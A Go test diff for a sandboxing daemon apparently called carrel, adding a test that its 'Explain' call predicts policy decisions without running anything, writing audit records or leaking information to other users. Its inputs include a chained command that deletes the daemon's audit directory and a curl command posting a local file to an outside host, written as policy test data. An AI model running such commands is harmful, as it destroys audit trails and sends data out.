@@ -16,6 +16,7 @@ import (
 	"github.com/carrel-dev/carrel/internal/flow"
 	"github.com/carrel-dev/carrel/internal/id"
 	"github.com/carrel-dev/carrel/internal/policy"
+	"github.com/carrel-dev/carrel/internal/principal"
 	"github.com/carrel-dev/carrel/internal/runtime"
 	"github.com/carrel-dev/carrel/internal/workspace"
 )
@@ -123,6 +124,65 @@ func TestUnverifiedIsTheHost(t *testing.T) {
 	}
 	if _, _, err := h.Run(ctx, alice, "demo", touch); err != nil {
 		t.Error(err)
+	}
+}
+
+// What is explained is what would be decided, by the rules in force and by what was seen of the workspace;
+// nothing runs, is started or is asked, and who may not run there is told nothing.
+func TestExplainIsWhatWouldBeDecided(t *testing.T) {
+	h := newHouse(t)
+	ctx := t.Context()
+	h.create(alice, "demo")
+	explain := func(by principal.Principal, argv ...string) (policy.Decision, bool, bool, error) {
+		return h.Explain(ctx, by, "demo", execapi.ExecParams{Argv: argv, Asked: execapi.Asked{Source: "user"}})
+	}
+	calls, at := fmt.Sprint(h.rt.calls), len(h.records())
+	for _, argv := range [][]string{
+		{"ls"}, {"sh", "-c", "true && ls; rm -rf /var/lib/carrel/daemon/audit"}, {"curl", "-d", "@x", "https://example.com/in"},
+	} {
+		d, verified, assumed, err := explain(alice, argv...)
+		if err != nil || !verified || assumed || d.Profile != policy.Workspace || !slices.ContainsFunc(d.Segments, func(s policy.Segment) bool {
+			return s.Level == d.Level
+		}) {
+			t.Errorf("%q: %+v, %v, %v, %v", argv, d, verified, assumed, err)
+		}
+		e := run(argv...)
+		e.Asked = execapi.Asked{Source: "user", WaitMS: -1}
+		if now := fmt.Sprint(h.rt.calls); now != calls {
+			t.Fatalf("explaining %q asked the runtime:\n%s\n%s", argv, calls, now)
+		}
+		if n := len(h.records()); n != at {
+			t.Errorf("explaining %q wrote %d records", argv, n-at)
+		}
+		_, _, err = h.Run(ctx, alice, "demo", e)
+		if (err == nil) != (d.Level == policy.Safe) {
+			t.Errorf("%q is said to be %s, and then: %v", argv, d.Level, err)
+		}
+		if got := decided(t, h.records()[at]); got.Level != d.Level.String() || got.RiskScore != d.RiskScore || got.Policy != d.Policy {
+			t.Errorf("%q is explained as %+v and judged as %+v", argv, d, got)
+		}
+		calls, at = fmt.Sprint(h.rt.calls), len(h.records())
+	}
+	if _, _, _, err := explain(bob, "ls"); !errdefs.IsPermissionDenied(err) {
+		t.Errorf("somebody else is told: %v", err)
+	}
+	h.crash()
+	h.start() // another daemon, which has not seen a start
+	h.rt.setReport(weak)
+	d, verified, assumed, err := explain(alice, "touch", "x")
+	if err != nil || verified || assumed || d.Level != policy.Confirm || d.Profile != policy.Host {
+		t.Errorf("where it was not seen to hold: %+v, %v, %v, %v", d, verified, assumed, err)
+	}
+	h.rt.setReport(report())
+	if _, err := h.Stop(ctx, alice, "demo"); err != nil {
+		t.Fatal(err)
+	}
+	calls = fmt.Sprint(h.rt.calls)
+	if d, verified, assumed, err := explain(alice, "touch", "x"); err != nil || !verified || !assumed || d.Level != policy.Safe {
+		t.Errorf("while it is stopped: %+v, %v, %v, %v", d, verified, assumed, err)
+	}
+	if now := fmt.Sprint(h.rt.calls); now != calls {
+		t.Errorf("explaining starts it:\n%s\n%s", calls, now)
 	}
 }
 
